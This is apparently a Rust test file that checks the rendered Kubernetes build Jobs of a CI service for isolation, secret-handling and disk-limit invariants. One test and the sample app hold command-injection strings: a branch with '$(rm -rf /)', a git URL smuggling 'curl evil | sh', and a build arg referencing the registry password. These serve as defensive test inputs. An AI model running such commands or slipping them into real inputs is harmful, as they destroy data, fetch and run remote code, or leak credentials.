//! The Job templates of `job-templates/`, rendered for a sample app of each kind: typed checks of
//! the invariants every build pod must keep, and a golden file per kind
//! (`tests/golden/<kind>.job.yaml`; `KILN_UPDATE_GOLDEN=1` rewrites them after a deliberate change).

use std::collections::BTreeMap;
use std::path::Path;

use builder_api::config::{KubeConfig, RegistryConfig, ToolchainConfig};
use builder_api::executor::kube::render::{self, RenderInput, Templates, TenantPlacement};
use builder_api::plan::{self, DockerfileBuilder, PlanInput, ResolvedKind};
use builder_api::store::{App, Build, BuildKind, BuildState, KindSettings, Tenant, TenantSettings};
use k8s_openapi::api::batch::v1::Job;
use k8s_openapi::api::core::v1::{Container, PodSpec};

fn sample_app(kind: BuildKind, git_token: Option<&str>) -> App {
    App {
        id: 7,
        tenant_id: 3,
        tenant: "payments".into(),
        name: "ledger".into(),
        git_url: "https://gitlab.example.com/payments/ledger.git".into(),
        project_path: Some("payments/ledger".into()),
        branch_filter: "*".into(),
        kind,
        settings: KindSettings {
            build_args: BTreeMap::from([("GREETING".into(), "$(KILN_REGISTRY_PASSWORD) `id`".into())]),
            ..KindSettings::default()
        },
        base_image: Some("registry.example.com/base/distroless:1".into()),
        image_repository: "harbor.example.com/payments/ledger".into(),
        webhook_secret: "whsec-never-in-a-job".into(),
        git_token: git_token.map(String::from),
        has_git_token: git_token.is_some(),
        gitlab_token: None,
        has_gitlab_token: false,
        created_at: 0,
        deleted_at: None,
    }
}

fn sample_build(branch: &str) -> Build {
    Build {
        id: 42,
        tenant_id: 3,
        tenant: "payments".into(),
        app_id: 7,
        app: "ledger".into(),
        state: BuildState::Running,
        reason: None,
        git_ref: Some(format!("refs/heads/{branch}")),
        commit: "0123456789abcdef0123456789abcdef01234567".into(),
        trigger: "push".into(),
        kind: None,
        image: None,
        image_digest: None,
        apm_agent: None,
        apm_version: None,
        original_image: None,
        jvm_options: None,
        queued_at: 0,
        started_at: None,
        finished_at: None,
        gitlab_status: None,
        commit_info: Default::default(),
    }
}

struct Rendered {
    job: Job,
}

/// The `[kube]` config the samples render with: a cache claim and a registry Secret for all.
fn sample_kube() -> KubeConfig {
    KubeConfig {
        namespace_prefix: "kiln-".into(),
        cache_claim: Some("kiln-cache".into()),
        registry_secret: Some("kiln-registry".into()),
        ..KubeConfig::default()
    }
}

/// The sample app's tenant, with `settings`.
fn sample_tenant(settings: TenantSettings) -> Tenant {
    Tenant { id: 3, name: "payments".into(), created_at: 0, settings }
}

fn render_kind(kind: ResolvedKind, app: &App, build: &Build) -> Rendered {
    render_for(kind, app, build, &sample_tenant(TenantSettings::default()))
}

/// Renders as the kube executor does: the tenant's placement from its settings over `[kube]`.
fn render_for(kind: ResolvedKind, app: &App, build: &Build, tenant: &Tenant) -> Rendered {
    let templates = Templates::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../job-templates")).unwrap();
    let toolchains = ToolchainConfig::default();
    let registry = RegistryConfig { username: Some("robot$payments+kiln".into()), password: Some("robot-password".into()), ..Default::default() };
    let input = PlanInput {
        app,
        build,
        kind,
        toolchains: &toolchains,
        registry: &registry,
        dockerfile_builder: DockerfileBuilder::Buildkit,
        apm: None,
    };
    let steps = plan::steps(&input);
    let placement = TenantPlacement::of(&sample_kube(), tenant);
    let job = render::render(
        templates.for_kind(kind),
        &RenderInput {
            instance: INSTANCE,
            build_id: build.id,
            tenant: &app.tenant,
            app: &app.name,
            placement: &placement,
            steps: &steps,
            active_deadline_secs: 1800,
            git_secret: app.git_token.as_ref().map(|_| "kiln-git-ledger"),
        },
    )
    .unwrap();
    Rendered { job }
}

/// The installation the sample Jobs are rendered for.
const INSTANCE: &str = "k7x2p9qm";

#[test]
fn job_and_pod_names_lead_back_to_their_build_only_for_their_own_instance() {
    assert_eq!(render::job_name(INSTANCE, 42), "kiln-k7x2p9qm-42");
    assert_eq!(render::build_of_name(INSTANCE, "kiln-k7x2p9qm-42"), Some(42));
    assert_eq!(render::build_of_name(INSTANCE, "kiln-k7x2p9qm-42-x7k2p"), Some(42), "a pod of the Job");
    for other in ["kiln-other-42", "kiln-k7x2p9qm-", "kiln-k7x2p9qm-4a", "kiln-k7x2p9qmx-42", "kiln-build-42", "k7x2p9qm-42"] {
        assert_eq!(render::build_of_name(INSTANCE, other), None, "{other}");
    }
}

/// A storage quantity of the templates in bytes (binary suffixes only; that is what they use).
fn bytes(q: &str) -> u64 {
    for (suffix, unit) in [("Ki", 1u64 << 10), ("Mi", 1 << 20), ("Gi", 1 << 30), ("Ti", 1 << 40)] {
        if let Some(n) = q.strip_suffix(suffix) {
            return n.parse::<u64>().unwrap_or_else(|e| panic!("{q}: {e}")) * unit;
        }
    }
    q.parse().unwrap_or_else(|e| panic!("{q}: {e}"))
}

fn workspace_size_limit(job: &Job) -> Option<String> {
    let v = pod(job).volumes.iter().flatten().find(|v| v.name == "workspace")?;
    v.empty_dir.as_ref()?.size_limit.as_ref().map(|q| q.0.clone())
}

fn storage(c: &Container, side: &str) -> Option<String> {
    let r = c.resources.as_ref()?;
    let side = if side == "requests" { r.requests.as_ref() } else { r.limits.as_ref() };
    side?.get("ephemeral-storage").map(|q| q.0.clone())
}

fn pod(job: &Job) -> &PodSpec {
    job.spec.as_ref().unwrap().template.spec.as_ref().unwrap()
}

fn containers(job: &Job) -> Vec<&Container> {
    let p = pod(job);
    p.init_containers.iter().flatten().chain(p.containers.iter()).collect()
}

fn env_value<'a>(c: &'a Container, name: &str) -> Option<&'a str> {
    c.env.iter().flatten().find(|e| e.name == name).and_then(|e| e.value.as_deref())
}

fn name_is(c: &Container, name: &str) -> bool {
    c.name == name
}

fn secret_refs(c: &Container) -> Vec<(String, String, String)> {
    c.env
        .iter()
        .flatten()
        .filter_map(|e| {
            let r = e.value_from.as_ref()?.secret_key_ref.as_ref()?;
            Some((e.name.clone(), r.name.clone(), r.key.clone()))
        })
        .collect()
}

/// The invariants of DESIGN.md and issue 3 that every rendered build Job keeps.
fn assert_invariants(kind: ResolvedKind, job: &Job) {
    let what = kind.as_str();
    assert_eq!(job.metadata.name.as_deref(), Some("kiln-k7x2p9qm-42"));
    assert_eq!(job.metadata.namespace.as_deref(), Some("kiln-payments"));
    let labels = job.metadata.labels.as_ref().unwrap();
    assert_eq!(labels.get("kiln.dev/build").map(String::as_str), Some("42"));
    assert_eq!(labels.get("kiln.dev/tenant").map(String::as_str), Some("payments"));
    assert_eq!(labels.get("kiln.dev/app").map(String::as_str), Some("ledger"));
    let pod_labels = job.spec.as_ref().unwrap().template.metadata.as_ref().unwrap().labels.as_ref().unwrap();
    assert_eq!(pod_labels.get("kiln.dev/build").map(String::as_str), Some("42"), "{what}: pods carry the build label");
    for l in [labels, pod_labels] {
        assert_eq!(l.get("kiln.dev/instance").map(String::as_str), Some(INSTANCE), "{what}: Job and pods carry the instance");
    }

    let spec = job.spec.as_ref().unwrap();
    assert_eq!(spec.backoff_limit, Some(0), "{what}: a build runs once");
    assert_eq!(spec.active_deadline_seconds, Some(1800));
    assert!(spec.ttl_seconds_after_finished.is_some_and(|t| t > 0), "{what}: a TTL backstop");

    let p = pod(job);
    assert_eq!(p.restart_policy.as_deref(), Some("Never"));
    assert_eq!(p.automount_service_account_token, Some(false), "{what}: no service account token");
    assert_eq!(p.security_context.as_ref().and_then(|s| s.run_as_non_root), Some(true), "{what}: non-root pod");

    let order: Vec<&str> = containers(job).iter().map(|c| c.name.as_str()).collect();
    assert_eq!(order, ["clone", "compile", "image"], "{what}: steps map to containers in order");
    assert_eq!(p.service_account_name.as_deref(), Some("kiln-build"), "{what}: the build namespace's account without rights");
    assert_eq!(p.containers.len(), 1, "{what}: image is the one main container");

    for c in containers(job) {
        let name = &c.name;
        let res = c.resources.as_ref().unwrap_or_else(|| panic!("{what}/{name}: resources"));
        let requests = res.requests.as_ref().unwrap_or_else(|| panic!("{what}/{name}: requests"));
        let limits = res.limits.as_ref().unwrap_or_else(|| panic!("{what}/{name}: limits"));
        assert!(requests.contains_key("cpu") && requests.contains_key("memory"), "{what}/{name}: cpu and memory requests");
        assert!(limits.contains_key("memory"), "{what}/{name}: a memory limit");
        // Disk: no build fills a node's disk (issue 18).
        assert!(requests.contains_key("ephemeral-storage"), "{what}/{name}: an ephemeral-storage request");
        assert!(limits.contains_key("ephemeral-storage"), "{what}/{name}: an ephemeral-storage limit");
        if name == "clone" || name == "image" {
            assert!(!limits.contains_key("cpu"), "{what}/{name}: no CPU limit on a short helper step");
        }
        let sc = c.security_context.as_ref();
        assert_ne!(sc.and_then(|s| s.privileged), Some(true), "{what}/{name}: never privileged");
        if kind == ResolvedKind::Dockerfile && name == "compile" {
            // Rootless BuildKit: unprivileged, non-root, seccomp and AppArmor unconfined only here.
            let sc = sc.unwrap();
            assert_eq!(sc.seccomp_profile.as_ref().map(|s| s.type_.as_str()), Some("Unconfined"));
            assert_eq!(sc.app_armor_profile.as_ref().map(|s| s.type_.as_str()), Some("Unconfined"));
            assert!(sc.run_as_user.is_some_and(|u| u != 0), "{what}/{name}: BuildKit rootless runs as a user");
        } else {
            let sc = sc.unwrap_or_else(|| panic!("{what}/{name}: a security context"));
            assert_eq!(sc.allow_privilege_escalation, Some(false), "{what}/{name}: no privilege escalation");
            assert!(sc.seccomp_profile.is_none(), "{what}/{name}: keeps the pod's RuntimeDefault seccomp");
            assert_ne!(sc.run_as_non_root, Some(false), "{what}/{name}: non-root");
            assert_ne!(sc.run_as_user, Some(0), "{what}/{name}: non-root");
        }
        // Mounts name declared volumes, each path once (the API server refuses duplicates).
        let mounts: Vec<&str> = c.volume_mounts.iter().flatten().map(|m| m.mount_path.as_str()).collect();
        let unique: std::collections::BTreeSet<&str> = mounts.iter().copied().collect();
        assert_eq!(mounts.len(), unique.len(), "{what}/{name}: duplicate mountPath in {mounts:?}");
        for m in c.volume_mounts.iter().flatten() {
            assert!(p.volumes.iter().flatten().any(|v| v.name == m.name), "{what}/{name}: mounts undeclared volume {}", m.name);
        }
        // The workspace reaches commands only through WORKSPACE; argv refers to $(WORKSPACE).
        let ws = c.volume_mounts.iter().flatten().find(|m| m.name == "workspace").expect("workspace mount");
        assert_eq!(env_value(c, "WORKSPACE"), Some(ws.mount_path.as_str()), "{what}/{name}");
        let command = c.command.as_ref().unwrap();
        assert!(command.iter().all(|a| !a.contains("/workspace")), "{what}/{name}: no hard-coded workspace path in {command:?}");
        assert!(c.args.is_none(), "{what}/{name}: the plan's argv is the whole command");
    }

    // Secrets: the registry Secret only in the image (push) container, the git token only in
    // clone; no secret value anywhere in the Job. A Dockerfile's RUN steps run in compile, which
    // gets no Secret at all without a pull credential, and pushes nothing.
    for c in containers(job) {
        if kind == ResolvedKind::Dockerfile && name_is(c, "compile") {
            assert_eq!(secret_refs(c), vec![], "{what}/compile: the container that runs the user's RUN steps");
            assert!(c.command.as_ref().unwrap().iter().any(|a| a == "--layout"), "{what}/compile writes a layout");
        }
        let refs = secret_refs(c);
        let registry = refs.iter().filter(|(_, s, _)| s == "kiln-registry").count();
        assert_eq!(registry, if c.name == "image" { 2 } else { 0 }, "{what}/{}: registry Secret refs", c.name);
        let git = refs.iter().filter(|(_, s, _)| s == "kiln-git-ledger").count();
        assert_eq!(git, if c.name == "clone" { 1 } else { 0 }, "{what}/{}: git Secret refs", c.name);
    }
    let text = serde_json::to_string(job).unwrap();
    for secret in ["robot-password", "git-token-value", "whsec-never-in-a-job"] {
        assert!(!text.contains(secret), "{what}: the Job must not hold the secret {secret}");
    }

    // Every emptyDir has a sizeLimit, and the pod's disk budget (its largest container's limit,
    // which the kubelet holds the emptyDirs to as well) is at least the largest one.
    let budget = containers(job).iter().map(|c| bytes(&c.resources.as_ref().unwrap().limits.as_ref().unwrap()["ephemeral-storage"].0)).max().unwrap();
    for v in p.volumes.iter().flatten() {
        if let Some(dir) = &v.empty_dir {
            let size = dir.size_limit.as_ref().unwrap_or_else(|| panic!("{what}: emptyDir {} has no sizeLimit", v.name));
            assert!(bytes(&size.0) <= budget, "{what}: emptyDir {} ({}) is larger than the pod's disk budget", v.name, size.0);
        }
    }

    let image = containers(job).into_iter().find(|c| c.name == "image").unwrap();
    assert_eq!(image.termination_message_path.as_deref(), Some("/workspace/.kiln/result.json"));
    // The cache: the tenant's PVC wherever a container mounts it.
    if let Some(cache) = p.volumes.iter().flatten().find(|v| v.name == "cache") {
        assert_eq!(cache.persistent_volume_claim.as_ref().map(|c| c.claim_name.as_str()), Some("kiln-cache"));
    }
}

#[test]
fn every_template_renders_a_job_that_keeps_the_invariants() {
    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
    let build = sample_build("main");
    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
        let r = render_kind(kind, &app, &build);
        assert_invariants(kind, &r.job);
    }
}

/// The sample tenant has no settings of its own: what it renders is the `[kube]` defaults over
/// the template, byte for byte the goldens.
#[test]
fn rendered_jobs_match_the_golden_files() {
    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
    let build = sample_build("main");
    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/golden");
    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
        let r = render_kind(kind, &app, &build);
        let text = serde_saphyr::to_string(&r.job).unwrap();
        let path = golden.join(format!("{}.job.yaml", kind.as_str()));
        if std::env::var("KILN_UPDATE_GOLDEN").is_ok() {
            std::fs::create_dir_all(&golden).unwrap();
            std::fs::write(&path, &text).unwrap();
        }
        let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e} (KILN_UPDATE_GOLDEN=1 writes it)", path.display()));
        assert_eq!(text, want, "{} differs from the rendered Job", path.display());
    }
}

#[test]
fn hostile_user_strings_stay_data_in_argv_and_env() {
    let branch = "feat/$(rm -rf /)";
    let mut app = sample_app(BuildKind::Go, None);
    app.git_url = "https://gitlab.example.com/a/b.git\"; curl evil | sh; echo \"".into();
    let build = sample_build(branch);
    for kind in [ResolvedKind::Go, ResolvedKind::Dockerfile] {
        let job = render_kind(kind, &app, &build).job;
        let clone = containers(&job).into_iter().find(|c| c.name == "clone").unwrap();
        // `$` doubled: Kubernetes' $(VAR) expansion gives back exactly the branch as pushed.
        let git_ref = env_value(clone, "KILN_GIT_REF").unwrap();
        assert_eq!(plan::expand(git_ref, &[]), format!("refs/heads/{branch}"));
        assert_eq!(plan::expand(env_value(clone, "KILN_GIT_URL").unwrap(), &[]), app.git_url);
        assert_eq!(clone.command.as_ref().unwrap(), &vec!["kiln".to_string(), "step".into(), "clone".into()]);
        // No shell anywhere: no container runs `sh -c`.
        for c in containers(&job) {
            let cmd = c.command.as_ref().unwrap();
            assert!(!cmd.iter().any(|a| a == "sh" || a == "bash" || a == "-c"), "{}: {cmd:?}", c.name);
        }
        if kind == ResolvedKind::Dockerfile {
            // A build arg that names a secret variable is not expanded by Kubernetes (and the
            // container that builds has no such variable anyway).
            let compile = containers(&job).into_iter().find(|c| c.name == "compile").unwrap();
            let arg = compile.command.as_ref().unwrap().iter().find(|a| a.starts_with("GREETING=")).unwrap();
            assert_eq!(plan::expand(arg, &[("KILN_REGISTRY_PASSWORD".into(), "leak".into())]), "GREETING=$(KILN_REGISTRY_PASSWORD) `id`");
        }
    }
}

#[test]
fn a_template_without_a_step_container_is_refused_at_load() {
    let dir = tempfile::tempdir().unwrap();
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../job-templates");
    for f in ["go.yaml", "maven.yaml", "dockerfile.yaml"] {
        std::fs::copy(src.join(f), dir.path().join(f)).unwrap();
    }
    let go = std::fs::read_to_string(dir.path().join("go.yaml")).unwrap().replace("- name: compile", "- name: build");
    std::fs::write(dir.path().join("go.yaml"), go).unwrap();
    let err = Templates::load(dir.path()).unwrap_err().to_string();
    assert!(err.contains("go") && err.contains("\"compile\""), "{err}");

    std::fs::write(dir.path().join("maven.yaml"), "apiVersion: batch/v1\nkind: Job\nspec: [not a map").unwrap();
    std::fs::copy(src.join("go.yaml"), dir.path().join("go.yaml")).unwrap();
    let err = Templates::load(dir.path()).unwrap_err().to_string();
    assert!(err.contains("maven.yaml"), "{err}");
}

/// A tenant with every setting that reaches a Job: exactly those values, and nothing else of the
/// Job differs from what the same build renders for a tenant without settings.
#[test]
fn a_tenants_settings_reach_its_job_and_change_nothing_else() {
    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
    let build = sample_build("main");
    let tenant = sample_tenant(TenantSettings {
        namespace: Some("builds-payments".into()),
        registry_secret: Some("payments-robot".into()),
        pull_secret: Some("payments-pull".into()),
        cache_claim: Some("payments-cache".into()),
        cpu: Some("1500m".into()),
        memory: Some("3Gi".into()),
        ephemeral_storage: Some("30Gi".into()),
        workspace_size: Some("12Gi".into()),
        // Settings that are not the Job's business (the scheduler's, the API's).
        max_concurrent_builds: Some(2),
        registry_project: Some("payments".into()),
        build_timeout_secs: Some(900),
        deploy_namespaces: Some(vec!["payments".into()]),
    });
    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
        let what = kind.as_str();
        let plain = render_kind(kind, &app, &build).job;
        let job = render_for(kind, &app, &build, &tenant).job;
        assert_eq!(job.metadata.namespace.as_deref(), Some("builds-payments"), "{what}");

        let p = pod(&job);
        assert_eq!(workspace_size_limit(&job).as_deref(), Some("12Gi"), "{what}: the workspace emptyDir's sizeLimit");
        // The claim wherever the template has a cache (Go and Maven; a Dockerfile build has none).
        let cache = p.volumes.iter().flatten().find(|v| v.name == "cache");
        assert_eq!(cache.is_some(), kind != ResolvedKind::Dockerfile, "{what}");
        if let Some(cache) = cache {
            assert_eq!(cache.persistent_volume_claim.as_ref().map(|c| c.claim_name.as_str()), Some("payments-cache"), "{what}");
        }
        for c in containers(&job) {
            let registry: Vec<_> = secret_refs(c).into_iter().filter(|(n, _, _)| n.starts_with("KILN_REGISTRY_")).collect();
            let want = if c.name == "image" {
                vec![
                    ("KILN_REGISTRY_USERNAME".to_string(), "payments-robot".to_string(), "username".to_string()),
                    ("KILN_REGISTRY_PASSWORD".into(), "payments-robot".into(), "password".into()),
                ]
            } else {
                vec![]
            };
            assert_eq!(registry, want, "{what}/{}", c.name);
            // The read-only pull credential reaches only the container that builds a Dockerfile.
            let pull: Vec<_> = secret_refs(c).into_iter().filter(|(n, _, _)| n.starts_with("KILN_PULL_")).collect();
            let want = if kind == ResolvedKind::Dockerfile && c.name == "compile" {
                vec![
                    ("KILN_PULL_USERNAME".to_string(), "payments-pull".to_string(), "username".to_string()),
                    ("KILN_PULL_PASSWORD".into(), "payments-pull".into(), "password".into()),
                ]
            } else {
                vec![]
            };
            assert_eq!(pull, want, "{what}/{}", c.name);
        }

        // The compiling container (BuildKit's, for a Dockerfile) gets the tenant's CPU and
        // memory as requests and limits; every other container keeps the template's.
        let sized = "compile";
        for (c, before) in containers(&job).into_iter().zip(containers(&plain)) {
            let res = c.resources.as_ref().unwrap();
            if c.name == sized {
                for side in [res.requests.as_ref().unwrap(), res.limits.as_ref().unwrap()] {
                    assert_eq!(side.get("cpu").map(|q| q.0.as_str()), Some("1500m"), "{what}/{}", c.name);
                    assert_eq!(side.get("memory").map(|q| q.0.as_str()), Some("3Gi"), "{what}/{}", c.name);
                    assert_eq!(side.get("ephemeral-storage").map(|q| q.0.as_str()), Some("30Gi"), "{what}/{}", c.name);
                }
            } else {
                assert_eq!(c.resources, before.resources, "{what}/{}: the template's resources", c.name);
            }
        }

        // Undo exactly those values: what is left is the plain Job.
        let mut undone = job.clone();
        undone.metadata.namespace = plain.metadata.namespace.clone();
        let up = undone.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
        let pp = pod(&plain);
        up.volumes = pp.volumes.clone();
        for (c, before) in up.init_containers.iter_mut().flatten().chain(up.containers.iter_mut()).zip(containers(&plain)) {
            c.resources = before.resources.clone();
            c.env = before.env.clone();
        }
        assert_eq!(undone, plain, "{what}: the settings changed more than their own values");
    }

    // Only what is set overrides the template: memory alone leaves the template's CPU.
    let memory_only = sample_tenant(TenantSettings { memory: Some("768Mi".into()), ..TenantSettings::default() });
    let job = render_for(ResolvedKind::Go, &app, &build, &memory_only).job;
    let compile = containers(&job).into_iter().find(|c| c.name == "compile").unwrap();
    let res = compile.resources.as_ref().unwrap();
    assert_eq!(res.requests.as_ref().unwrap()["memory"].0, "768Mi");
    assert_eq!(res.limits.as_ref().unwrap()["memory"].0, "768Mi");
    assert_eq!(res.requests.as_ref().unwrap()["cpu"].0, "1", "the template's CPU request stays");
    assert_eq!(res.limits.as_ref().unwrap()["cpu"].0, "2", "the template's CPU limit stays");
    assert_eq!(job.metadata.namespace.as_deref(), Some("kiln-payments"), "the default namespace");
}

/// `workspace_size` alone: the workspace emptyDir gets it, and the container that builds keeps
/// the template's room for everything else — its limit grows by as much as the workspace grew
/// (a smaller workspace leaves the template's limit) — so the larger workspace can fill before
/// the pod's disk budget evicts the build. Requests stay the template's.
#[test]
fn a_tenants_workspace_size_sizes_the_workspace_and_keeps_room_in_the_pods_disk_budget() {
    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
    let build = sample_build("main");
    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
        let what = kind.as_str();
        let sized = "compile";
        let plain = render_kind(kind, &app, &build).job;
        let heavy = |job: &Job| containers(job).into_iter().find(|c| c.name == sized).unwrap().clone();
        let template_ws = bytes(&workspace_size_limit(&plain).unwrap());
        let template_limit = bytes(&storage(&heavy(&plain), "limits").unwrap());

        let tenant = sample_tenant(TenantSettings { workspace_size: Some("20Gi".into()), ..TenantSettings::default() });
        let job = render_for(kind, &app, &build, &tenant).job;
        assert_eq!(workspace_size_limit(&job).as_deref(), Some("20Gi"), "{what}");
        let limit = bytes(&storage(&heavy(&job), "limits").unwrap());
        assert_eq!(limit, template_limit + (20 << 30) - template_ws, "{what}: the budget grows by the workspace's growth");
        assert_eq!(storage(&heavy(&job), "requests"), storage(&heavy(&plain), "requests"), "{what}: the template's request");
        for (c, before) in containers(&job).into_iter().zip(containers(&plain)) {
            if c.name != sized {
                assert_eq!(c.resources, before.resources, "{what}/{}", c.name);
            }
        }
        // Every other emptyDir keeps the template's sizeLimit.
        for (v, before) in pod(&job).volumes.iter().flatten().zip(pod(&plain).volumes.iter().flatten()) {
            if v.name != "workspace" {
                assert_eq!(v, before, "{what}: volume {}", v.name);
            }
        }
        assert_invariants(kind, &job);

        // Smaller than the template's: the workspace shrinks, the budget stays.
        let small = sample_tenant(TenantSettings { workspace_size: Some("512Mi".into()), ..TenantSettings::default() });
        let job = render_for(kind, &app, &build, &small).job;
        assert_eq!(workspace_size_limit(&job).as_deref(), Some("512Mi"), "{what}");
        assert_eq!(heavy(&job).resources, heavy(&plain).resources, "{what}");
    }
}

/// A template edit that drops a container's ephemeral-storage limit or an emptyDir's sizeLimit
/// stops Kiln at start, naming what is missing.
#[test]
fn a_template_without_disk_limits_is_refused_at_load() {
    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../job-templates");
    let cases = [
        ("go.yaml", "limits: {memory: 256Mi, ephemeral-storage: 256Mi}", "limits: {memory: 256Mi}", "\"clone\" has no ephemeral-storage limit"),
        ("maven.yaml", "emptyDir: {sizeLimit: 1Gi}", "emptyDir: {}", "emptyDir volume \"tmp\" has no sizeLimit"),
        ("dockerfile.yaml", "emptyDir: {sizeLimit: 10Gi}", "emptyDir: {}", "emptyDir volume \"buildkit-state\" has no sizeLimit"),
    ];
    for (file, from, to, expected) in cases {
        let dir = tempfile::tempdir().unwrap();
        for f in ["go.yaml", "maven.yaml", "dockerfile.yaml"] {
            std::fs::copy(src.join(f), dir.path().join(f)).unwrap();
        }
        let text = std::fs::read_to_string(dir.path().join(file)).unwrap();
        assert!(text.contains(from), "{file} has {from:?}");
        std::fs::write(dir.path().join(file), text.replacen(from, to, 1)).unwrap();
        let err = Templates::load(dir.path()).unwrap_err().to_string();
        assert!(err.contains(expected), "{file}: {err}");
    }
}
